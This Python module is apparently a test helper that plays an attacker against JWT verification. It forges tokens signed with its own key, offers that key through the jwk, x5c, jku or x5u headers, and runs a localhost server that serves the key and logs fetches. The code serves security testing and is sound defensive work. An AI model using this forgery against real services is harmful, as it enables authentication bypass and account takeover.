"""An attacker with a key and a web server, for tokens that say where to find the key."""

from __future__ import annotations

import base64
import datetime
import json
import threading
from collections.abc import Callable
from functools import cached_property
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import cast

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPrivateKey
from cryptography.x509.oid import NameOID

from .keys import Key, another_key
from .token import Token, encode, with_header, with_signature


class Attacker:
    """Signs with their own key, offers it in the header, and records who fetches it.

    The algorithm is the app's wherever a key of that kind can be offered: a token with another one
    would be rejected for that alone. A shared secret fits into a JWK, but not into a certificate.

    ``visits`` holds the path of every request to the attacker's server.
    """

    def __init__(self) -> None:
        self.visits: list[str] = []
        self._secret = Key("HS256", another_key("HS256"))

    def forge(self, token: Token, parameter: str) -> str:
        """The token with the attacker's signature, and the key offered in ``parameter``.

        ``jwk`` and ``x5c`` hold the key itself (RFC 7515 sections 4.1.3 and 4.1.6), ``jku`` and
        ``x5u`` an address of the attacker's server (sections 4.1.2 and 4.1.5).
        """
        key = self._fitting(token, parameter)
        offers: dict[str, Callable[[], object]] = {
            "jwk": lambda: self._jwks[key.algorithm],
            "x5c": lambda: [base64.b64encode(self._certificate).decode()],
            "jku": lambda: f"{self._address}/{key.algorithm}.json",
            "x5u": lambda: f"{self._address}/certificate.pem",
        }
        copy = with_header(token, alg=key.algorithm, **{parameter: offers[parameter]()})
        return with_signature(copy, key.sign(copy.signing_input)).text

    def _fitting(self, token: Token, parameter: str) -> Key:
        shared = token.header.get("alg") == "HS256" and parameter in ("jwk", "jku")
        return self._secret if shared else self._key

    def close(self) -> None:
        """End the attacker's server, if it was needed."""
        if server := self.__dict__.pop("_server", None):
            server.shutdown()
            server.server_close()

    @property
    def _address(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}"

    @cached_property
    def _server(self) -> ThreadingHTTPServer:
        server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        threading.Thread(target=server.serve_forever, args=(0.005,), daemon=True).start()
        return server

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def parse_request(self) -> bool:
                # Whatever the method: HEAD and POST count as visits, too.
                parsed = super().parse_request()
                if parsed:
                    attacker.visits.append(self.path)
                return parsed

            def do_GET(self) -> None:
                self.send_response(200)
                self.end_headers()
                self.wfile.write(attacker.document(self.path))

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing: what matters is in ``visits``."""

        return Handler

    def document(self, path: str) -> bytes:
        """What the attacker's server returns: a key set (RFC 7517 section 5), or a certificate."""
        if path.endswith(".json"):
            return json.dumps({"keys": [self._jwks[path[1:-5]]]}).encode()
        certificate = x509.load_der_x509_certificate(self._certificate)
        return certificate.public_bytes(serialization.Encoding.PEM)

    @cached_property
    def _key(self) -> Key:
        return Key("RS256", another_key("RS256"))  # takes long, and few tokens need it

    @cached_property
    def _private(self) -> RSAPrivateKey:
        return cast(RSAPrivateKey, self._key.private_key())

    @cached_property
    def _jwks(self) -> dict[str, dict[str, str]]:
        numbers = self._private.public_key().public_numbers()
        modulus, exponent = numbers.n.to_bytes(256, "big"), numbers.e.to_bytes(3, "big")
        rsa = {"kty": "RSA", "alg": "RS256", "n": encode(modulus), "e": encode(exponent)}
        secret = encode(self._secret.secret.encode())
        return {"RS256": rsa, "HS256": {"kty": "oct", "alg": "HS256", "k": secret}}

    @cached_property
    def _certificate(self) -> bytes:
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.example")])
        now = datetime.datetime.now(datetime.timezone.utc)
        builder = x509.CertificateBuilder(name, name, self._private.public_key(), 1)
        builder = builder.not_valid_before(now - datetime.timedelta(days=1))
        builder = builder.not_valid_after(now + datetime.timedelta(days=1))
        return builder.sign(self._private, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
